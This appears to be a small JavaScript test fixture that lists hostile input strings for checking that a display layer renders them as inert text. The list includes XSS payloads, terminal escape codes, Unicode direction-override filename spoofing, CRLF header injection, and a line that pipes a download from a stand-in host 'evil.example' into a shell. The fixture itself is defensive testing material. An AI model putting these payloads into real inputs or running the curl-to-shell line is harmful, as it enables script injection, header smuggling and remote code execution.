// What attackers send to hurt whoever looks. All of it has to arrive as text.

export const hostileStrings = [
  "<img src=x onerror=alert(document.domain)>",
  "<script>fetch('/api/v1/auth/logout',{method:'POST'})</script>",
  "javascript:alert(1)",
  '"><svg/onload=alert(1)>',
  "\u001b[2J\u001b[1;31mroot@prod\u001b[0m\u0007",
  "invoice\u202egpj.exe",
  "\u2066admin\u2069\u200b\u200d\ufeff",
  "a\u0000b\r\nSet-Cookie: owned=1",
  "Z\u0335\u0316\u030a\u0334\u0325\u034ea\u0337\u0322\u0319\u0306l\u0334\u0300\u0333g\u0335\u033b\u0301o\u0334\u031d\u0350",
  "\u0301\u0302leading mark",
  "שלום עולם",
  "{{constructor.constructor('alert(1)')()}}",
  "$(curl evil.example|sh)`id`",
  "root / toor (accepted)",
];

/** A megabyte, with something odd in it now and then. */
export const huge = "A".repeat(997).concat("\u001b\u202e\n").repeat(1049);
